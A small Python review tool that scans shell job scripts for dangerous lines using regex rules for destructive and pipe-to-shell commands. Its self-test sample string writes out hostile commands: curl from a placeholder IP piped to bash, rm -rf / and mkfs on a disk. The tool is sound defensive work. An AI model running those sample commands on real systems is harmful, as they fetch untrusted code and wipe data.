#!/usr/bin/env python3
"""Review of job scripts: report lines that need a second pair of eyes."""
import re
import sys
from pathlib import Path

RULES = [
    ("recursive delete", re.compile(r"\brm\s+-[a-z]*r[a-z]*f?\s+/")),
    ("mkfs", re.compile(r"\bmkfs(\.\w+)?\s")),
    ("raw write", re.compile(r"\bdd\b.*\bof=/dev/(sd|nvme|vd)")),
    ("open modes", re.compile(r"chmod\s+-R\s+0?777")),
    ("pipe to shell", re.compile(r"(curl|wget)\b.*\|\s*(ba)?sh\b")),
    ("flush", re.compile(r"iptables\s+-F|FLUSHALL|DROP\s+DATABASE", re.I)),
]
SAMPLE = "curl http://192.0.2.1/x | bash; rm -rf / ; os.system('mkfs.xfs /dev/sda')"


def review(path):
    for no, line in enumerate(path.read_text(errors="replace").splitlines(), 1):
        for name, rx in RULES:
            if rx.search(line):
                yield no, name, line.strip()


def selftest():
    assert sum(bool(rx.search(SAMPLE)) for _, rx in RULES) >= 3


if __name__ == "__main__":
    selftest()
    bad = 0
    for f in sorted(Path(sys.argv[1] if len(sys.argv) > 1 else "/opt/jobs").rglob("*.sh")):
        for no, name, text in review(f):
            print(f"{f}:{no}: {name}: {text}")
            bad += 1
    sys.exit(bad > 0)
